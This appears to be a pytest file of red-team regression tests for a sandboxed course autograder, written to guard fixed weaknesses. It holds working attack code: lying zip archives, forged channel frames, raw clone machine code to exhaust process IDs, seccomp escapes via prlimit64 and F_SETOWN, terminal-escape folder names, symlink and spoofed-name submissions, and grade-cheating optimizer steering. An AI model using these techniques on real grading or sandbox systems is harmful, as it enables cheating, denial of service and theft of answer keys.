"""Red team, round three: attacks that worked against the hardened engine (see REDTEAM.md).

Every test here is an attack that succeeded against the engine when it was written (REDTEAM.md says how, and
what it did); the comment above each says what it found. Each has been fixed, and the test now guards that
defence.

Destructive attempts aim at canaries or stay far below the host's limits (this machine also runs CI).
"""
from __future__ import annotations

import json
import os
import shutil
import struct
import textwrap
import zipfile
from pathlib import Path

import pytest

from autograder.engine.runner import grade
from autograder.engine.sandbox import Limits, bubblewrap_available
from autograder.engine.submissions import MAX_ZIP_MEMBERS, from_zip
from autograder.weeks import ROOT, WEEKS

needs_bwrap = pytest.mark.skipif(not bubblewrap_available(), reason="bubblewrap is not installed")

# Written into a hostile module: send a frame straight on the channel to the grader (as the child's own code
# would), then end the process, so the forged frame is the one the parent reads for this call.
FORGE = '''
import os as _os, stat as _stat, struct as _struct, json as _json


def _forge(doc):
    body = _json.dumps(doc).encode()
    frame = _struct.pack("!II", len(body), 0) + body + bytes(-(8 + len(body)) % 8)
    for fd in range(3, 64):
        try:
            if _stat.S_ISSOCK(_os.fstat(fd).st_mode):
                _os.write(fd, _struct.pack("!I", len(frame)) + frame)
        except OSError:
            pass
    _os._exit(0)
'''


def submission(folder: Path, week: str, module_text: dict[str, str] | None = None, *, answered: bool = True) -> Path:
    """A submission folder: the reference modules (or the given texts) and the week's notebook (answered:
    the source notebook with its solution cells; else the released one)."""
    folder.mkdir(parents=True, exist_ok=True)
    w = WEEKS[week]
    for module in w.modules:
        text = (module_text or {}).get(module)
        text = text if text is not None else (w.solution_dir / f"{module}.py").read_text()
        (folder / f"{module}.py").write_text(text)
    notebook = ROOT / "assignments" / week / w.notebook if answered else w.template_dir / w.notebook
    shutil.copy(notebook, folder / w.notebook)
    return folder


def grade_one(tmp_path: Path, week: str, name: str, modules: dict[str, str], **limits) -> dict:
    """Grade one submission (the reference modules but ``modules``, the answered notebook); its results.json."""
    folder = submission(tmp_path / name, week, modules)
    results = grade(WEEKS[week], [folder], tmp_path / "out", show_progress=False,
                    **({"limits": Limits(**limits)} if limits else {}))
    assert not results.failed, results.failed
    return results[name]


def grader_errors(result: dict) -> list:
    return [t["extra_data"].get("internal_error") for t in result["tests"] if "grader-error" in t["tags"]]


def stub(week: str, module: str) -> str:
    return (WEEKS[week].template_dir / f"{module}.py").read_text()


# --- 1. a zip whose end record lies about its entry count ------------------------------------------------
def lying_zip(path: Path, entries: int) -> Path:
    """``entries`` central-directory records of empty files, behind an end record that announces ONE."""
    name = b"a"
    record = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0,
                         len(name), 0, 0, 0, 0, 0, 0) + name
    directory = record * entries
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(directory), 0, 0)
    path.write_bytes(directory + end)
    return path


# fixed -- RT-1: the entry count is read from the end record, but zipfile parses the whole central directory
# whatever that count says (1.06M entries in a 50 MB upload: 30 s and 450 MB in the grading worker)
def test_a_zip_whose_end_record_lies_is_refused_before_its_directory_is_parsed(tmp_path, monkeypatch):
    built = []
    real_init = zipfile.ZipInfo.__init__

    def counting_init(self, *args, **kwargs):
        built.append(1)
        real_init(self, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipInfo, "__init__", counting_init)
    sub = from_zip(WEEKS["week2_optimizers"], lying_zip(tmp_path / "bob.zip", 20_000))
    assert sub.problems, "a zip of 20,000 entries must be refused"
    assert len(built) <= MAX_ZIP_MEMBERS + 1, f"{len(built)} zip entries were parsed before the archive was refused"


# --- 2. a forged, well-formed reply becomes a "grader error" ---------------------------------------------
@needs_bwrap
# fixed -- RT-2: graders index the probes' replies without checking their shape; a child that sends {'ok': {}}
# makes them raise KeyError: 16 'grader errors', the student told it is not their fault, the run exits 3
# blaming the grader
def test_a_forged_reply_is_the_students_failure_not_a_grader_error(tmp_path):
    week = "week2_optimizers"
    attack = stub(week, "optimizers") + FORGE + textwrap.dedent('''

        def _forged_update(self, params, grads):
            _forge({"ok": {}})        # plain data, but not the shape the probe returns


        for _cls in (SGD, SGDMomentum, Nesterov, AdaGrad, RMSprop, Adam, AdamW):
            _cls.update = _forged_update
        ''')
    result = grade_one(tmp_path, week, "forger", {"optimizers": attack}, call_seconds=5, budget_seconds=30)
    assert not grader_errors(result), grader_errors(result)[:3]


# --- 3. week 4: a train that never uses a gradient steers the grader's optimizer to weights found elsewhere --
# A train that applies no gradient of its own after update HONEST: it sends the grader's optimizer the one
# vector that makes its momentum step (v = mu*v + g; p -= lr*v) land on pasted weights _W -- exactly (BOUNDED
# False), or as close as a step of norm clip_norm allows (BOUNDED True).
STEER = '''
import numpy as np

from clipping import clip_by_global_norm

_W = [np.array(w) for w in {weights!r}]
MU, HONEST, BOUNDED = 0.9, {honest}, {bounded}     # MU: the grader's week4_support.Momentum


def train(net, optimizer, X, y, epochs, batch_size, rng, clip_norm=None, schedule=None):
    n, step, out = len(X), 0, []
    steer = [p.shape for p in net.params] == [w.shape for w in _W]
    v = [np.zeros_like(p) for p in net.params]
    for _ in range(epochs):
        perm = rng.permutation(n)
        losses = []
        for start in range(0, n, batch_size):
            idx = perm[start:start + batch_size]
            loss, grads = net.backward(X[idx], y[idx])
            if clip_norm is not None:
                grads, _ = clip_by_global_norm(grads, clip_norm)
            if schedule is not None:
                optimizer.lr = schedule(step)
            lr = float(optimizer.lr)
            if steer and step >= HONEST:
                if lr > 0:
                    grads = [(p - w) / lr - MU * vv for p, w, vv in zip(net.params, _W, v)]
                    norm = float(np.sqrt(sum(np.sum(g * g) for g in grads)))
                    if BOUNDED and norm > 0:
                        grads = [g * min(1.0, (clip_norm or 0.5) / norm) for g in grads]
                else:
                    grads = [np.zeros_like(p) for p in net.params]
            v = [MU * vv + g for vv, g in zip(v, grads)]
            optimizer.update(net.params, grads)
            step += 1
            losses.append(float(loss))
        out.append(float(np.mean(losses)))
    return out
'''


def trained_weights(monkeypatch) -> list:
    """Weights that solve the main run's spirals, made once, outside the sandbox (any working loop, a
    classmate's run or another library would do): what a forger pastes into its module."""
    import importlib
    import sys

    import numpy as np
    week = WEEKS["week4_stability"]
    monkeypatch.syspath_prepend(str(week.grader_dir))
    monkeypatch.syspath_prepend(str(week.solution_dir))
    support, tests, training = (importlib.import_module(m) for m in ("week4_support", "test_train", "training"))
    try:
        main = tests.MAIN
        data_rng = np.random.default_rng(main["data_seed"])
        X, y = support.datasets.two_spirals(main["n_per_class"], main["noise"], data_rng)
        net = support.network.TwoLayerNet(2, main["hidden"], 2, np.random.default_rng(main["init_seed"]))
        training.train(net, support.momentum_sgd.MomentumSGD(lr=main["lr"]), X, y, main["epochs"], main["batch_size"],
                       np.random.default_rng(main["seed"]), clip_norm=main["clip_norm"], schedule=tests.schedule_value)
        return [p.tolist() for p in net.params]
    finally:
        for m in ("week4_support", "test_train", "training", "clipping"):
            sys.modules.pop(m, None)


def steered_train(tmp_path, monkeypatch, **steering) -> dict[str, float]:
    """train test name -> points, for the reference modules with STEER as training.py."""
    forger = STEER.format(weights=trained_weights(monkeypatch), **steering)
    result = grade_one(tmp_path, "week4_stability", "steerer", {"training": forger})
    return {t["name"]: t["score"] for t in result["tests"] if t["extra_data"]["problem"] == "train"}


@needs_bwrap
# fixed -- RT-3: the grader's optimizer applies whatever 'gradients' train sends; a train that never uses one
# lands the network on pasted weights: 19 of train's 23 points (accuracy, spike, schedule, losses, shuffling)
# from no training at all
def test_a_train_that_never_uses_a_gradient_earns_no_outcome_points(tmp_path, monkeypatch):
    earned = steered_train(tmp_path, monkeypatch, honest=0, bounded=False)
    outcome = [name for name in earned if "learns the two spirals" in name or "survives one gradient" in name]
    assert len(outcome) == 2, earned
    assert all(earned[name] == 0 for name in outcome), earned


# --- 4. threads: every PID on the machine, at no memory cost --------------------------------------------
# x86_64 machine code: clone(flags, stack, 0, 0, 0); the new thread loops on pause() and never touches its
# stack, so thousands of them cost no address space (RLIMIT_AS stops Python's own threads near 1,200).
RAW_THREADS = '''
import ctypes, mmap

CODE = bytes.fromhex("b838000000" "31d2" "4531d2" "4531c0" "0f05" "85c0" "7509" "b822000000" "0f05" "ebf7" "c3")
KEEP = []


def hog(cap):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    stack = mmap.mmap(-1, 65536)
    fn = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_ulong, ctypes.c_void_p)(
        ctypes.addressof(ctypes.c_char.from_buffer(page)))
    KEEP.extend([page, stack, fn])
    top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + 65536 - 256
    made = 0
    for _ in range(cap):        # VM FS FILES SIGHAND THREAD SYSVSEM: a thread, as the filter allows
        if fn(0x100 | 0x200 | 0x400 | 0x800 | 0x10000 | 0x40000, top) < 0:
            break
        made += 1
    return made
'''
MAX_TASKS = 512     # far above what an honest submission starts (NumPy runs one BLAS thread here)


@needs_bwrap
@pytest.mark.skipif(os.uname().machine != "x86_64", reason="the attack's machine code is x86_64")
# fixed -- RT-4: no RLIMIT_NPROC and no pids cgroup: one child holds as many tasks as the kernel gives (5,000
# in 0.6 s; pid_max is 32,768 here). In a 600-PID cgroup standing for the host, classmates in the other worker
# got engine errors (12/100, 'not graded') while the hog held them
def test_a_child_cannot_take_the_machines_process_ids():
    from autograder.engine.sandbox import Session, Zygote
    zygote = Zygote("bwrap", trusted={"probes": "def hog(mods, cap):\n    return mods.toy.hog(cap)\n"})
    session = Session(zygote, "x", {"toy": RAW_THREADS})
    try:
        try:
            made = session.probe("hog", cap=2_000)     # 2,000: a clear answer, far from this machine's limit
        except Exception:  # noqa: BLE001 -- the child ended: refused, as it should be
            made = 0
    finally:
        session.close()
        zygote.stop()
    assert made <= MAX_TASKS, f"one child started {made} threads"


# --- 5. a numeric answer written as a string with a huge exponent -----------------------------------------
NUMBER_KEY = {"velocity_factor": {"kind": "number", "answer": 100.0, "rel_tol": 0.02, "abs_tol": 0.0}}


def check_number(value):
    from autograder.answers import check_answer
    check_answer({"velocity_factor": value}, "velocity_factor", key=NUMBER_KEY, notebook="week2_optimizers.ipynb",
                 revisit="Revisit the lesson.", hint="Try again.")


# fixed -- RT-5a: answers._number catches ValueError and ZeroDivisionError, not the OverflowError of
# float(Fraction('1e400')): a 'grader error', exit 3
def test_a_numeric_answer_too_large_for_a_float_is_a_wrong_format_not_a_grader_error():
    from autograder.grading import GradeFailure
    with pytest.raises(GradeFailure):
        check_number("1e400")


# fixed -- RT-5b: Fraction('1e<n>') computes 10**n in the grading worker, outside every timeout: '1e999999999'
# in a notebook held a worker for 150 s (and hours more, killed) with the classmate queued behind it never
# graded
def test_reading_a_numeric_answer_is_bounded_in_time():
    import time

    from autograder.grading import GradeFailure
    started = time.monotonic()
    try:
        check_number("1e2000000")          # 10**2,000,000: about a second; 1e999999999 would take hours
    except GradeFailure:
        pass
    except OverflowError:
        pass                               # RT-5a's failure; this test is about the time
    assert time.monotonic() - started < 0.25


# --- 6. a notebook of millions of empty cells -------------------------------------------------------------
# fixed -- RT-6: MAX_ANSWER_CELLS counts answer cells only; read_answers walks every cell (~3.6 us each, a
# regexp per cell): a 20 MB notebook of '{}' cells held a grading worker 35 s and 525 MB before any limit
# applies
def test_reading_a_notebook_of_a_million_empty_cells_is_bounded(tmp_path):
    import time

    from autograder.engine.submissions import from_folder
    week = WEEKS["week2_optimizers"]
    folder = tmp_path / "cells"
    folder.mkdir()
    (folder / week.notebook).write_text('{"cells": [' + "{}," * 1_000_000 + "{}]}")     # 3 MB
    started = time.monotonic()
    from_folder(week, folder)
    assert time.monotonic() - started < 1.5, "reading a 3 MB notebook took longer than 1.5 s"


# --- 7. a legitimate-looking but huge return value costs the parent seconds and hundreds of MB -----------
@needs_bwrap
# fixed -- RT-7: test_train's loss_figure turns every returned 'epoch loss' into a Python float and
# plugin._figure json-dumps it all before checking its size: 7.9M losses cost the worker ~3 s in one test and
# ~500 MB, outside every timeout
def test_a_huge_return_value_costs_the_parent_little(tmp_path):
    week = "week4_stability"
    forger = ("def train(net, optimizer, X, y, epochs, batch_size, rng, clip_norm=None, schedule=None):\n"
              "    return [0.0] * 7_900_000      # 'one loss per epoch'; under the 64 MB reply limit\n")
    result = grade_one(tmp_path, week, "biglist", {"training": forger})
    slow = {t["name"][:50]: t["extra_data"]["seconds"] for t in result["tests"]
            if "learns the two spirals" in t["name"]}
    # the main run is cached by an earlier test: this one only judges, in the parent (honest: ~0.05 s)
    assert slow and all(s < 1.0 for s in slow.values()), slow


# --- 8. without bubblewrap, as root: the child reads the whole machine ------------------------------------
@pytest.mark.skipif(os.geteuid() != 0, reason="grading as root: the child runs as a uid of its own")
# fixed -- RT-8 (documented by a warning, still exploitable): in --isolation none (also 'auto' without
# bubblewrap) the child's view is the host's, read-only; solutions/ and graders/*/key.py are world-readable:
# an untouched stub that walks / and execs the solution scored 88/100
def test_without_bubblewrap_the_child_cannot_read_the_solutions_or_the_keys():
    import warnings

    from autograder.engine.sandbox import Session, Zygote
    week = WEEKS["week2_optimizers"]
    secrets = [str(week.solution_dir / "optimizers.py"), str(week.grader_dir / "key.py")]
    toy = ("def peek(paths):\n"
           "    out = []\n"
           "    for p in paths:\n"
           "        try:\n"
           "            out.append(len(open(p).read()))\n"
           "        except OSError:\n"
           "            out.append(None)\n"
           "    return out\n")
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", RuntimeWarning)
        zygote = Zygote("none", trusted={"probes": "def peek(mods, paths):\n    return mods.toy.peek(paths)\n"})
    session = Session(zygote, "x", {"toy": toy})
    try:
        read = session.probe("peek", paths=secrets)
    finally:
        session.close()
        zygote.stop()
    assert read == [None, None], dict(zip(secrets, read))


# --- 9. a request through the child->parent channel that the callback validates too little ---------------
@needs_bwrap
# fixed -- RT-9: TrainingHost checks that backward's labels are 0 or 1 but not their dtype; float labels reach
# the network as indices: IndexError in the parent, a 'grader error', exit 3 (Session._serve turns only
# CallbackRefused into a refusal)
def test_a_malformed_request_to_the_parent_is_refused_not_a_grader_error(tmp_path):
    week = "week4_stability"
    forger = textwrap.dedent('''
        import numpy as np


        def train(net, optimizer, X, y, epochs, batch_size, rng, clip_norm=None, schedule=None):
            # the stand-in's own channel to the grader, with float labels (0.0, 1.0)
            net._call("backward", X=np.asarray(X[:2], dtype=float), y=np.array([0.0, 1.0]))
            return []
        ''')
    result = grade_one(tmp_path, week, "asker", {"training": forger})
    assert not grader_errors(result), grader_errors(result)


# --- 10. zip_collect: files inside one student's uploaded archive are collected for other students --------
def lms_download(tmp_path: Path, files: dict[str, bytes], inner: dict[str, bytes]):
    """A course whose LMS bulk download holds ``files`` (named by the LMS: <student>_<ids>_<file>) and mallory's
    own upload, ``mallory_<ids>_my_work.zip``, holding ``inner`` (names she chose); then zip_collect."""
    import io
    import zipfile as zf

    from autograder import demo
    week = WEEKS["week2_optimizers"]
    course = demo.make_course(tmp_path / "course-root", [week])
    upload = io.BytesIO()
    with zf.ZipFile(upload, "w") as z:
        for name, data in inner.items():
            z.writestr(name, data)
    archive = course.course_dir / "downloaded" / week.name / "archive"
    archive.mkdir(parents=True, exist_ok=True)
    with zf.ZipFile(archive / "lms_download.zip", "w") as z:
        for name, data in files.items():
            z.writestr(name, data)
        z.writestr("mallory_1001_2001_my_work.zip", upload.getvalue())
    try:
        demo.nbgrader(course, ["zip_collect", week.name, "--force"])
    except Exception:  # noqa: BLE001 -- a failed collection is judged below by what reached submitted/
        pass
    submitted = course.course_dir / "submitted"
    return {p.parent.parent.name + "/" + p.name for p in submitted.rglob("*") if p.is_file()} if submitted.exists() \
        else set()


def _week2_files():
    week = WEEKS["week2_optimizers"]
    return (week.solution_dir / "optimizers.py").read_bytes(), \
        (ROOT / "assignments" / week.name / week.notebook).read_bytes()


# fixed -- RT-10a: the collector's regexp reads the student id from the last path component at any depth, and
# nbgrader unpacks archives inside the download: mallory's upload my_work.zip holding carol_optimizers.py
# creates a submission for carol, who handed in nothing
def test_an_archive_a_student_uploaded_cannot_hand_in_for_a_classmate(tmp_path):
    module, notebook = _week2_files()
    collected = lms_download(tmp_path, {"alice_1000_2000_optimizers.py": module},
                             {"carol_optimizers.py": module, "carol_week2_optimizers.ipynb": notebook})
    assert "alice/optimizers.py" in collected, collected
    assert not any(f.startswith("carol/") for f in collected), collected


# fixed -- RT-10b: the same upload holding alice_optimizers.py makes nbgrader stop ('Duplicate submission
# file. No timestamps for comparison'): nothing at all is collected for the class
def test_an_archive_a_student_uploaded_cannot_stop_the_class_collection(tmp_path):
    module, _ = _week2_files()
    collected = lms_download(tmp_path, {"alice_1000_2000_optimizers.py": module, "bob_1002_2002_optimizers.py": module},
                             {"alice_optimizers.py": b"x = 1\n"})
    assert {"alice/optimizers.py", "bob/optimizers.py"} <= collected, collected


# --- 11. the re-grade command prints a student's folder name raw -------------------------------------------
# fixed -- RT-11: regrade_command shell-quotes the submission paths but does not make their control characters
# safe: a submitted/<name> holding ESC/BEL (a student id read from an LMS file name, see RT-10) drives the
# instructor's terminal when that submission is not graded (which the student can force, RT-2)
def test_the_regrade_command_shows_no_control_characters(tmp_path):
    from autograder.engine.runner import ClassResults, regrade_command
    name = "0_owned_8mmallory"
    path = str(tmp_path / "submitted" / "\x1b]0;owned\x07\x1b[8mmallory" / "week2_optimizers")
    results = ClassResults(tmp_path / "out", {name: {}}, {name: "engine error"}, {name: path})
    command = regrade_command(WEEKS["week2_optimizers"], results, [name], tmp_path / "out")
    assert not any(ord(c) < 32 or ord(c) == 127 for c in command), repr(command)


# --- 12. the seccomp filter lets a child reach other processes through prlimit64 and F_SETOWN -------------
@pytest.mark.skipif(os.uname().machine not in ("x86_64", "aarch64"), reason="the filter's architectures")
# fixed -- RT-12: 'signals only to itself' holds for kill/tgkill, but prlimit64 takes any pid and
# fcntl(F_SETOWN/F_SETSIG) makes the kernel signal any pid; without namespaces (non-root, kernel refuses them)
# a child set every grading process's CPU limit to 1 s: 3 honest classmates 'not graded', no worker started
# again
def test_the_seccomp_filter_keeps_a_child_away_from_other_processes():
    import fcntl
    import resource
    import signal
    import socket
    import subprocess
    import sys

    from autograder.engine import seccomp
    canary = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        pid = os.fork()
        if pid == 0:                                # a child with the filter, as the engine installs it
            reached = 0
            try:
                a, b = socket.socketpair()          # a socket it holds, like its channel (made before the filter)
                seccomp.install(seccomp.build(os.getpid()))
                try:
                    resource.prlimit(canary.pid, resource.RLIMIT_NOFILE, (7, 7))
                    reached |= 1
                except OSError:
                    pass
                try:
                    fcntl.fcntl(b, fcntl.F_SETOWN, canary.pid)
                    fcntl.fcntl(b, 10, signal.SIGUSR1)                       # F_SETSIG
                    fcntl.fcntl(b, fcntl.F_SETFL, fcntl.fcntl(b, fcntl.F_GETFL) | os.O_ASYNC)
                    a.send(b"x")                                             # b readable: the kernel signals
                except OSError:
                    pass
            finally:
                os._exit(reached)
        _, status = os.waitpid(pid, 0)
        try:
            canary.wait(timeout=2)
        except subprocess.TimeoutExpired:
            pass
        limits = None if canary.poll() is not None else resource.prlimit(canary.pid, resource.RLIMIT_NOFILE)
        assert os.waitstatus_to_exitcode(status) == 0 and limits != (7, 7), "prlimit64 reached another process"
        assert canary.poll() is None, "F_SETOWN/F_SETSIG made the kernel signal another process"
    finally:
        canary.kill()
        canary.wait()


@needs_bwrap
# fixed -- RT-2b: no forging needed: a gradient_descent that first calls grad_f on a (2, 2, 2) array (and
# swallows the error) is recorded as a visited point: the update test then raises TypeError in the parent: a
# 'grader error', exit 3
def test_an_odd_but_real_call_of_the_given_gradient_is_the_students_failure_not_a_grader_error(tmp_path):
    week = "week1_gradient_descent"
    module = (WEEKS[week].solution_dir / "gradient_descent.py").read_text() + textwrap.dedent('''

        _real_gd = gradient_descent


        def gradient_descent(f, grad_f, theta_init, learning_rate, n_steps):
            try:
                grad_f(np.zeros((2, 2, 2)))       # a real call, with an odd shape; its error is swallowed
            except Exception:
                pass
            return _real_gd(f, grad_f, theta_init, learning_rate, n_steps)
        ''')
    result = grade_one(tmp_path, week, "odd", {"gradient_descent": module})
    assert not grader_errors(result), grader_errors(result)


@needs_bwrap
# fixed -- RT-3b: honest for the 30 updates whose gradients the grader compares, then steered to pasted
# weights with every update's norm within clip_norm: 23 of 23 train points, 100/100 for the week
def test_a_train_steered_after_the_compared_updates_does_not_pass_the_clipping_test(tmp_path, monkeypatch):
    earned = steered_train(tmp_path, monkeypatch, honest=30, bounded=True)
    clip = [name for name in earned if "clips the gradients by their global norm" in name]
    assert len(clip) == 1 and earned[clip[0]] == 0, earned


# --- 13. a feedback figure whose path leaves for 1e300 and comes back hangs matplotlib's Agg renderer ------
# fixed -- RT-13: a finite but huge point (1e300) in a trajectory figure, followed by a point near the
# surface, sends Agg's draw_path into a loop that does not end: `autograder report --pages` hung 5 min on that
# student (killed), no page for anyone after; feedback and check --html draw the same figures
def test_a_trajectory_figure_with_a_far_finite_point_is_drawn_or_skipped_in_bounded_time():
    import subprocess
    import sys
    figure = {"kind": "trajectory", "surface": "rosenbrock", "reference": [[-1.2, 1.0], [1.0, 1.0]],
              "student": [[-1.2, 1.0], [1e300, -1e300], [0.5, 0.5]]}
    code = ("import json, sys\nfrom autograder.feedback.figures import render\n"
            "render(json.loads(sys.argv[1]))\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    try:
        subprocess.run([sys.executable, "-c", code, json.dumps(figure)], env=env, timeout=20, capture_output=True)
    except subprocess.TimeoutExpired:
        pytest.fail("drawing one trajectory figure took more than 20 s (an honest one takes 1-3 s)")


# --- 14. nbgrader collect: the exchange's inbound folder is the students', and collect trusts it -----------
def collect_from_inbound(tmp_path: Path, records: dict[str, dict[str, object]], owner: int | None = None):
    """A course whose exchange inbound holds ``records`` (folder name -> {file: bytes, or a Path to link to}),
    optionally owned by uid ``owner``; then ``nbgrader collect``. Returns the submitted/ folder."""
    from autograder import demo
    week = WEEKS["week2_optimizers"]
    course = demo.make_course(tmp_path / "course-root", [week])
    inbound = course.exchange / course.course_id / "inbound"
    inbound.mkdir(parents=True, exist_ok=True)
    for folder, files in records.items():
        record = inbound / folder
        record.mkdir()
        for name, content in files.items():
            if isinstance(content, Path):
                os.symlink(content, record / name)
            else:
                (record / name).write_bytes(content)
        if owner is not None:
            for path in [record, *record.iterdir()]:
                os.lchown(path, owner, owner)
    demo.nbgrader(course, ["collect", week.name])
    return course.course_dir / "submitted"


@pytest.mark.skipif(os.geteuid() != 0, reason="the instructor's side as root, as on this machine")
# fixed -- RT-14a: nbgrader collect copies the inbound folder with shutil.copytree, which follows symbolic
# links as the instructor: links a student leaves in the (student-writable) inbound folder to solutions/ and
# assignments/ became a regular submission that scored 100/100
def test_collect_never_follows_a_link_a_student_left_in_the_exchange(tmp_path):
    week = WEEKS["week2_optimizers"]
    submitted = collect_from_inbound(tmp_path, {
        f"mallory+{week.name}+2026-12-03 10:00:00.000000 UTC+a1b2c3": {
            "optimizers.py": week.solution_dir / "optimizers.py",
            week.notebook: ROOT / "assignments" / week.name / week.notebook}})
    module = submitted / "mallory" / week.name / "optimizers.py"
    assert not (module.is_file() and not module.is_symlink()
                and module.read_text() == (week.solution_dir / "optimizers.py").read_text()), \
        "the reference solution was collected as mallory's optimizers.py"


@pytest.mark.skipif(os.geteuid() != 0, reason="making a folder owned by another user needs root")
# fixed -- RT-14b: collect takes the student id from the inbound folder's name; a folder 'bob+week+<later
# time>+x' owned by another user is collected as bob's newest submission (nbgrader only logs 'cheating
# attempt?')
def test_collect_refuses_a_submission_made_in_a_classmates_name(tmp_path):
    week = WEEKS["week2_optimizers"]
    module, notebook = _week2_files()
    submitted = collect_from_inbound(tmp_path, {
        f"bob+{week.name}+2026-12-03 10:00:00.000000 UTC+aaaaaa": {"optimizers.py": module, week.notebook: notebook},
        f"bob+{week.name}+2026-12-03 11:00:00.000000 UTC+bbbbbb": {"optimizers.py": b"# nothing\n"}},
        owner=65534)        # both made by another user than bob (here: nobody), the later one empty
    collected = submitted / "bob" / week.name / "optimizers.py"
    assert not collected.exists(), f"collected as bob's: {collected.read_bytes()[:40]!r}"
